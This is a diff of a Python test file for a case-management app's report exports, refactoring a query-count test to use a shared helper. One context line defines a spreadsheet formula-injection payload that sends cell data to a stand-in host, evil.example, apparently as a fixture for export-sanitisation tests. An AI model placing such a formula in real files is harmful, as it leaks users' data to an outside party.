@@ -20,6 +20,7 @@ from casemgmt.cases.models import Case
 from casemgmt.extensions import db
 from casemgmt.reports import exports
 from tests import factories
+from tests.tasks.conftest import count_queries
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -224,24 +225,14 @@ def test_rows_cross_batch_boundaries_without_loss_or_repeat(app, ctx, w, monkeyp
 
 
 def test_codes_and_names_are_read_per_batch_not_per_row(app, ctx, w, monkeypatch):
-    from sqlalchemy import event
-
     for _ in range(6):
         make_case(w.caseworker, assigned_to_id=w.caseworker.id)
-    statements = []
-
-    def count(*_args):
-        statements.append(1)
-
     monkeypatch.setattr(exports, "BATCH", 3)
-    event.listen(db.engine, "before_cursor_execute", count)
-    try:
-        rows = list(exports.caseload_rows(w.ngo.id, exports.ReportFilters()))
-    finally:
-        event.remove(db.engine, "before_cursor_execute", count)
+    rows = []
+    statements = count_queries(app, lambda: rows.extend(exports.caseload_rows(w.ngo.id, exports.ReportFilters())))
     assert len(rows) == 6
     # Per batch: cases, codes, assignees; two full batches and the empty third read.
-    assert len(statements) <= 3 * 2 + 1
+    assert statements <= 3 * 2 + 1
 
 
 def test_the_page_counts_the_selected_cases(app, web, w, cohort):
